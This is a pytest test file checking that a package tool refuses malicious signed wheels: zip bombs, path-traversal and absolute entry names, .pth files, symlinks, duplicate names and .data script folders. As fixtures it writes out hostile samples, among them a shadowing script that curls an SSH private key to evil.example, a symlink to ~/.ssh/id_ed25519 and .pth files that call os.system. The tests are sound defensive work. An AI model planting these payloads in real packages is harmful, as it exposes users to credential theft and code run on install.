"""Wheel bombs and unsafe wheel entries (issue 12, items 6 and 8).

Each attack is a wheel signed with the publisher's real key: a zip bomb (a small wheel that
unpacks to 200 MB), too many entries, entries named ``../evil.py``, ``/abs/evil.py``,
``C:\\evil.py`` or with a NUL, a ``.pth`` file, a symbolic link, duplicate names, and
entries in a wheel ``.data/`` folder (scripts, data, headers: installed outside the
workset's folder, a script in bin/ shadowing ``modellab``). Each is refused by ``registry
add`` (nothing published) and, published into the signed index by other means, by
``worksets install`` before uv runs (nothing installed, the user's files untouched), with a
one-line error naming the wheel and the entry, and exit 10.
"""

from __future__ import annotations

import hashlib
import io
import sqlite3
import stat
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from workset_core.builders import make_workset
from workset_core.conftest import Publisher

from attacks.conftest import publish_unchecked
from modellab.cli import main
from modellab.registry import Index, RegistryRepository
from modellab.settings import Settings
from modellab.worksets import _install, _wheel_safety
from modellab.worksets._wheel_safety import UnsafeWheelError, check_wheel

_EPOCH = (1980, 1, 1, 0, 0, 0)

#: Adds entries to an open archive (and may return {placeholder: real} byte replacements
#: for names zipfile cannot write, such as one with a NUL).
Attack = Callable[[zipfile.ZipFile], dict[bytes, bytes] | None]


def _add(name: str, data: bytes = b"print('pwned')\n", mode: int = 0o644) -> Attack:
    def attack(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo(name, date_time=_EPOCH)
        info.external_attr = mode << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, data)

    return attack


def _bomb(archive: zipfile.ZipFile) -> None:
    """200 MB of zeros, written in blocks: the wheel stays about 200 KB."""
    info = zipfile.ZipInfo("modellab_bomb/blob.bin", date_time=_EPOCH)
    info.compress_type = zipfile.ZIP_DEFLATED
    block = bytes(1 << 20)
    with archive.open(info, "w", force_zip64=True) as handle:
        for _ in range(200):
            handle.write(block)


def _many(archive: zipfile.ZipFile) -> None:
    for number in range(_wheel_safety.MAX_ENTRIES + 1):
        info = zipfile.ZipInfo(f"modellab_many/m{number}.py", date_time=_EPOCH)
        archive.writestr(info, b"")


def _nul(archive: zipfile.ZipFile) -> dict[bytes, bytes]:
    _add("modellab_nul/aQQb.py")(archive)
    return {b"modellab_nul/aQQb.py": b"modellab_nul/a\x00\x00b.py"}


def _duplicate(name: str, twin: str) -> Attack:
    def attack(archive: zipfile.ZipFile) -> None:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate: the point
            _add(name, b"x = 1\n")(archive)
            _add(twin, b"x = 2\n")(archive)

    return attack


#: A wheel's ``.data`` folder (any distribution name will do: every one is refused).
_DATA = "modellab_x-0.1.0.data"
#: A script that would stand in for ``modellab`` in the environment's bin/.
_SHADOW = b"#!python\nimport os\nos.system('curl -d @~/.ssh/id_ed25519 evil.example')\n"

ATTACKS: dict[str, tuple[Attack, str]] = {
    "zip-bomb": (_bomb, "modellab_bomb/blob.bin"),
    "too-many-entries": (_many, "entries"),
    "dot-dot": (_add("../evil.py"), "../evil.py"),
    "dot-dot-inside": (_add("modellab_x/../../evil.py"), "evil.py"),
    "absolute": (_add("/abs/evil.py"), "/abs/evil.py"),
    "backslash-drive": (_add("C:\\evil.py"), "evil.py"),
    "drive-letter": (_add("C:/evil.py"), "C:/evil.py"),
    "nul": (_nul, "modellab_nul/a"),
    "control": (_add("modellab_x/a\x1b[2Kb.py"), "modellab_x/a"),
    "pth-top": (_add("evil.pth", b"import os; os.system('true')\n"), "evil.pth"),
    "pth-inside": (_add("modellab_x/evil.pth", b"import os\n"), "evil.pth"),
    "symlink": (_add("modellab_x/link", b"../../../.ssh/id_ed25519", 0o120777), "modellab_x/link"),
    "fifo": (_add("modellab_x/fifo", b"", stat.S_IFIFO | 0o644), "modellab_x/fifo"),
    "duplicate": (_duplicate("modellab_x/dup.py", "modellab_x/dup.py"), "modellab_x/dup.py"),
    "case-duplicate": (_duplicate("modellab_x/Dup.py", "modellab_x/DUP.py"), "modellab_x/DUP.py"),
    # Wheel .data folders install outside the workset's folder (issue 12, item 6): a script
    # into the environment's bin/ that shadows ``modellab``, files into its prefix.
    "data-scripts": (_add(f"{_DATA}/scripts/modellab", _SHADOW, 0o755), f"{_DATA}/scripts"),
    "data-data": (_add(f"{_DATA}/data/etc/profile.d/evil.sh"), f"{_DATA}/data"),
    "data-headers": (_add(f"{_DATA}/headers/evil.h"), f"{_DATA}/headers"),
    "data-purelib": (_add(f"{_DATA}/purelib/evil.py"), f"{_DATA}/purelib"),
    "data-case": (_add("modellab_x-0.1.0.DATA/scripts/python3"), ".DATA/scripts"),
    "data-folder-only": (_add(f"{_DATA}/", b""), _DATA),
}


def _crafted(publisher: Publisher, name: str, attack: Attack) -> tuple[Path, bytes]:
    """An honest ``registry build`` wheel plus the attack's entries, signed with the
    publisher's real key. Returns the wheel and the manifest it ships."""
    source = make_workset(publisher.root / "sources" / name, name)
    dist = publisher.root / "dist" / name
    assert main(["registry", "build", str(source), "--out", str(dist)]) == 0
    (wheel,) = dist.glob("*.whl")
    with zipfile.ZipFile(wheel) as archive:
        files = {n: archive.read(n) for n in archive.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in sorted(files.items()):
            archive.writestr(zipfile.ZipInfo(entry, date_time=_EPOCH), data)
        replacements = attack(archive) or {}
    data = buffer.getvalue()
    for placeholder, real in replacements.items():
        assert len(placeholder) == len(real)
        data = data.replace(placeholder, real)
    wheel.write_bytes(data)
    assert main(["registry", "sign", str(wheel), "--key", str(publisher.signing)]) == 0
    (manifest,) = [d for n, d in files.items() if n.endswith("/workset.toml") and n.count("/") == 1]
    return wheel, manifest


def _published(publisher: Publisher) -> tuple[list[str], list[str]]:
    repository = RegistryRepository(publisher.registry, publisher.keys)
    index = Index.from_toml(repository.target_bytes("index.toml"), "index.toml")
    return [r.name for r in index.releases], list(repository.target_names())


def _nothing_installed(name: str) -> None:
    settings = Settings.from_env()
    assert not (settings.worksets_dir / name).exists()
    assert not list(settings.worksets_dir.glob(".staging-*"))
    db = sqlite3.connect(settings.catalog_path)
    try:
        assert (name,) not in db.execute("SELECT name FROM workset_installs").fetchall()
    finally:
        db.close()


def _user_files(home: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(home)): p.read_bytes()
        for p in sorted(home.rglob("*"))
        if p.is_file() and ".modellab" not in p.parts
    }


def _one_line_refusal(err: str, wheel: Path, entry: str) -> None:
    """The error's first line names the wheel and the entry; no traceback."""
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines, err
    assert wheel.name in lines[0] and entry in lines[0], err
    assert "Traceback" not in err


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_registry_add_refuses_an_unsafe_wheel(publisher, capsys, attack):
    make, entry = ATTACKS[attack]
    name = attack.replace("-", "")[:20]
    wheel, _manifest = _crafted(publisher, name, make)
    capsys.readouterr()
    before = _published(publisher)
    add = ["registry", "add", str(publisher.registry), str(wheel)]
    code = main([*add, "--keys", str(publisher.keys), "--signing-key", str(publisher.signing)])
    err = capsys.readouterr().err
    assert code == 10, err
    _one_line_refusal(err, wheel, entry)
    assert _published(publisher) == before  # nothing published


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_install_refuses_an_unsafe_wheel_before_uv(
    publisher, capsys, isolated_env, monkeypatch, attack
):
    make, entry = ATTACKS[attack]
    name = attack.replace("-", "")[:20]
    wheel, manifest = _crafted(publisher, name, make)
    publish_unchecked(publisher, name, wheel, manifest)
    home = isolated_env
    (home / "notes.txt").write_text("mine\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("secret\n")
    before = _user_files(home)
    ran: list[list[str]] = []
    monkeypatch.setattr(_install, "_run_uv", lambda args, job=None: ran.append(args))
    capsys.readouterr()
    # Consent given up front: the path on which uv may start early, before the manifest
    # is read. The wheel check comes before that too.
    sha = hashlib.sha256(manifest).hexdigest()
    code = main(["worksets", "install", name, "--accept-manifest", sha])
    err = capsys.readouterr().err
    assert code == 10, err
    _one_line_refusal(err, wheel, entry)
    assert ran == []  # uv never ran
    _nothing_installed(name)
    assert _user_files(home) == before
    assert not list(publisher.root.parent.rglob("evil.py"))
    assert not list(Path("/abs").glob("evil.py"))


def test_the_bomb_is_small_and_refused_by_its_ratio(publisher):
    wheel, _manifest = _crafted(publisher, "bomb", _bomb)
    assert wheel.stat().st_size < 1024 * 1024  # a small wheel ...
    with pytest.raises(UnsafeWheelError, match="zip bomb"):
        check_wheel(wheel)  # ... refused for what it unpacks to


def test_total_unpacked_size_is_bounded(publisher, monkeypatch):
    """Entries that compress honestly but add up past the limit (lowered here)."""
    data = bytes(range(256)) * 4096  # 1 MiB, barely compressible by the ratio rule
    wheel, _manifest = _crafted(publisher, "big", _add("modellab_big/blob.bin", data))
    check_wheel(wheel)
    monkeypatch.setattr(_wheel_safety, "MAX_UNPACKED_BYTES", 512 * 1024)
    with pytest.raises(UnsafeWheelError, match="unpacked size"):
        check_wheel(wheel)


def test_an_entry_that_lies_about_its_size_is_refused(publisher):
    """The central directory says one size, the data another: refused on reading back."""
    wheel, _manifest = _crafted(publisher, "liar", _add("modellab_liar/x.py", b"A" * 1000))
    data = bytearray(wheel.read_bytes())
    name = b"modellab_liar/x.py"
    # The central directory record: its name at offset 46, the uncompressed size at 24.
    record = data.find(b"PK\x01\x02")
    while data[record + 46 : record + 46 + len(name)] != name:
        record = data.find(b"PK\x01\x02", record + 4)
        assert record > 0
    assert int.from_bytes(data[record + 24 : record + 28], "little") == 1000
    data[record + 24 : record + 28] = (10).to_bytes(4, "little")
    wheel.write_bytes(bytes(data))
    with pytest.raises(UnsafeWheelError, match=r"modellab_liar/x\.py"):
        check_wheel(wheel)


def test_registry_build_refuses_a_pth_in_the_source(publisher, capsys):
    source = make_workset(publisher.root / "sources" / "pthsrc", "pthsrc")
    (source / "src" / "modellab_pthsrc" / "boot.pth").write_text("import os\n")
    dist = publisher.root / "dist" / "pthsrc"
    assert main(["registry", "build", str(source), "--out", str(dist)]) == 10
    assert "boot.pth" in capsys.readouterr().err
    assert not list(dist.glob("*.whl"))


def test_an_honest_wheel_passes(publisher):
    source = make_workset(publisher.root / "sources" / "honest", "honest")
    wheel = publisher.publish(source)
    check_wheel(wheel)
    assert "honest" in _published(publisher)[0]
